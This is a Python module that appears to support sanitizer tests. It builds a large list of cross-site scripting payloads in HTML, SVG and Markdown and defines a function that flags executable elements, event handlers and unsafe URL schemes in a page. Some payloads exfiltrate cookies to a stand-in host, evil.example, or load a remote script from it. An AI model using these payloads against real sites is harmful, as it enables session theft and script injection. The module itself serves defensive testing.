"""Strings that try to run in somebody's browser, and a way to see whether they could."""

import html
import json
import re
from collections.abc import Iterator

import lxml.html
from lxml.html import HtmlElement

_CODE = (
    "alert(1)",
    "alert`1`",
    "alert(String.fromCharCode(88,83,83))",
    "fetch('//evil.example/'+document.cookie)",
)
_ELEMENTS = (
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script/src=//evil.example/x.js></script>",
    "<script\n>{0}</script\n>",
    "<<script>{0};//<</script>",
    "<img src=x onerror={0}>",
    "<img src=x onerror='{0}'/>",
    '<img """><script>{0}</script>">',
    "<img/src='x'/onerror={0}>",
    "<IMG SRC=javascript:{0}>",
    '<img src="jav&#x09;ascript:{0};">',
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{0}"><text y=20>x</text></a></svg>',
    '<math href="javascript:{0}">x</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<body onload={0}>",
    "<iframe src=javascript:{0}></iframe>",
    '<iframe srcdoc="<script>{0}</script>"></iframe>',
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<marquee onstart={0}>x</marquee>",
    '<meta http-equiv="refresh" content="0;url=javascript:{0}">',
    '<link rel=stylesheet href="javascript:{0}">',
    "<base href='javascript:{0}//'>",
    "<style>@import'javascript:{0}';</style>",
    '<div style="background:url(javascript:{0})">x</div>',
    "<div style='width:expression({0})'>x</div>",
    "<a href=javascript:{0}>x</a>",
    "<a href='&#106;avascript:{0}'>x</a>",
    "<a href='\x01javascript:{0}'>x</a>",
    "<a href='data:text/html,<script>{0}</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<p onclick={0}>x</p>",
    "</title><script>{0}</script>",
    "</style><script>{0}</script>",
    "</script><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    "</textarea><script>{0}</script>",
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "<template><script>{0}</script></template>",
    "<xmp><script>{0}</script></xmp>",
    "<plaintext><script>{0}</script>",
    "<!--<script>{0}</script>-->",
    "<![CDATA[<script>{0}</script>]]>",
    '<?xml version="1.0"?><script>{0}</script>',
    "&lt;script&gt;{0}&lt;/script&gt;",
    '" onmouseover="{0}" x="',
    "' onmouseover='{0}' x='",
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    "` onmouseover=`{0}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "{{% raw %}}<script>{0}</script>{{% endraw %}}",
)
_MARKDOWN = (
    "[x](javascript:{0})",
    "[x](JaVaScRiPt:{0})",
    "[x](java\nscript:{0})",
    "[x](<javascript:{0}>)",
    "[x]( javascript:{0})",
    "[x](\tjavascript:{0})",
    "[x](&#106;avascript:{0})",
    "[x](javascript&colon;{0})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](https://x.example/"onmouseover="{0})',
    "[x](https://x.example/'onmouseover='{0})",
    "[x](https://x.example/><script>{0}</script>)",
    '[x](https://x.example "\\" onmouseover=\\"{0}")',
    "<javascript:{0}>",
    '<https://x.example/"onmouseover="{0}>',
    "![x](javascript:{0})",
    '![](<x.jpg" onerror="{0}>)',
    "![](javascript:{0})",
    "[x][y]\n\n[y]: javascript:{0}",
    '[y]: https://x.example/"onmouseover="{0}\n\n[y]',
    "[^1]\n\n[^1]: <script>{0}</script>",
    '[^"><script>{0}</script>]',
    "## <script>{0}</script>",
    "> <img src=x onerror={0}>",
    "- <img src=x onerror={0}>",
    "a | <img src=x onerror={0}>\n--- | ---\n<svg onload={0}> | x",
    "    <script>{0}</script>",
    "```\n<script>{0}</script>\n```",
    "`<script>{0}</script>`",
    "<div>\n\n<script>{0}</script>\n\n</div>",
    "\\<script>{0}</script>",
    "*<script>*{0}*</script>*",
)
HOSTILE = tuple(
    attack.format(code) for attack in (*_ELEMENTS, *_MARKDOWN) for code in (_CODE if "script" in attack else _CODE[:1])
)

_EXECUTABLE = {"script", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "base", "template"}
_ADDRESSES = {"href", "src", "action", "data", "formaction", "poster", "srcset", "xlink:href", "srcdoc", "background"}
_SAFE = re.compile(
    r"(?:https?://|mailto:|tel:|#|deskeditor-media:|data:image/(?:jpeg|png);base64,)|(?![a-z0-9+.-]*:)", re.I
)


def dangers(page: str) -> Iterator[str]:
    """What in this page could run, load or lead somewhere it must not. Empty for a clean one."""
    root = lxml.html.document_fromstring(page)
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        yield from _element(element)
        for name, value in ((str(n), str(v)) for n, v in element.attrib.items()):
            if name.startswith("on") or name in ("srcdoc", "formaction") or name == "style":
                yield f"{element.tag} {name}={value}"
            if name in _ADDRESSES and not _SAFE.match(html.unescape(value).strip("\x00\x01 \t\n")):
                yield f"{element.tag} {name}={value}"


def _element(element: HtmlElement) -> Iterator[str]:
    tag = str(element.tag).lower()
    if tag == "script" and element.get("type") == "application/ld+json":
        json.loads(element.text or "")
        if re.search(r"[<>&]", element.text or ""):
            yield f"a script that may end early: {element.text}"
    elif tag in _EXECUTABLE:
        yield f"element {tag}"
    elif tag == "meta" and (element.get("http-equiv") or "").lower() not in ("", "content-security-policy"):
        yield "meta " + element.get("http-equiv", "")
    elif tag == "link" and element.get("rel") != "canonical":
        yield "link " + element.get("rel", "")
